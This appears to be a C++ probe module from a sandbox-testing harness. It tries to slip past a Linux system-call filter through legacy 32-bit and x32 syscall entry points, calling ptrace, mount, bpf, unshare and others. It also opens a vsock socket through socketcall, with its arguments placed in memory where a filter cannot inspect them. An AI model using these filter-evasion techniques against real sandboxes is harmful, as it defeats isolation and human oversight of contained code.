#include <cerrno>
#include <csignal>
#include <cstdint>
#include <cstdio>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "../ways.hpp"

namespace {

#if defined __x86_64__

struct Call {
    const char *name;
    long number_32, number_x32;
};

const Call CALLS[] = {{"getpid", 20, 39},           {"ptrace", 26, 521},      {"mount", 21, 165},
                      {"keyctl", 288, 250},         {"unshare", 310, 272},    {"bpf", 357, 321},
                      {"io_uring_setup", 425, 425}, {"personality", 136, 135}};

long narrow(long number, long a, long b) {
    int result;
    asm volatile("int $0x80"
                 : "=a"(result)
                 : "a"(number), "b"(a), "c"(b), "d"(0), "S"(0), "D"(0)
                 : "memory", "r8", "r9", "r10", "r11");
    if (result >= 0)
        return result;
    errno = -result;
    return -1;
}

void attempt_others() {
    for (const Call &call : CALLS) {
        attempt(call.name, [&] { return narrow(call.number_32, 0, 0); });
        attempt(call.name, [&] { return syscall(0x40000000 | call.number_x32, 0, 0, 0); });
    }
    // All socket calls are one there, with arguments in memory, where no filter sees the family.
    attempt("socketcall for a vsock", [] {
        void *low = mmap(nullptr, 4096, PROT_READ | PROT_WRITE,
                         MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
        uint32_t *arguments = (uint32_t *)low;
        arguments[0] = 40;
        arguments[1] = 1;
        return narrow(102, 1, (long)(uintptr_t)low);
    });
}

#else

void attempt_others() {
    printf("this architecture has no other system calls from here\n");
}

#endif

} // namespace

extern "C" long attack(long n) {
    attempt_others();
    return reached;
}
